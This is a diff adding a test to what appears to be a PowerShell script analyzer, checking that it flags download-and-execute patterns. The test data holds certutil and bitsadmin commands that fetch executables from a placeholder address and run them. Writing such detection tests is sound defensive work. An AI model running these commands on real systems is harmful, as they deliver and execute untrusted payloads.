@@ -139,3 +139,17 @@ def test_wevtutil_clear_through_start_process_argument_list() -> None:
         Start-Process -FilePath wevtutil.exe -ArgumentList 'epl', 'System', 'C:\\logs\\system.evtx'
     """)
     assert lines_of(result, "PSClearEventLog") == [1, 2]
+
+
+def test_certutil_and_bitsadmin_downloads_that_are_then_run() -> None:
+    result = analyze("""
+        certutil.exe -urlcache -split -f 'http://192.0.2.17/t.exe' "$stage\\t.exe"
+        & "$stage\\t.exe" -install
+        bitsadmin /transfer job /download /priority high http://192.0.2.17/u.exe C:\\Users\\Public\\u.exe
+        Start-Process -FilePath C:\\Users\\Public\\u.exe
+        certutil -urlcache -f https://192.0.2.17/v.msi "$stage\\v.msi"
+        if ((Get-FileHash -Path "$stage\\v.msi").Hash -eq $expected) { msiexec /i "$stage\\v.msi" /qn }
+        certutil -hashfile "$stage\\w.exe" SHA256
+        & "$stage\\w.exe"
+    """)
+    assert lines_of(result, "PSDownloadAndExecute") == [1, 3]
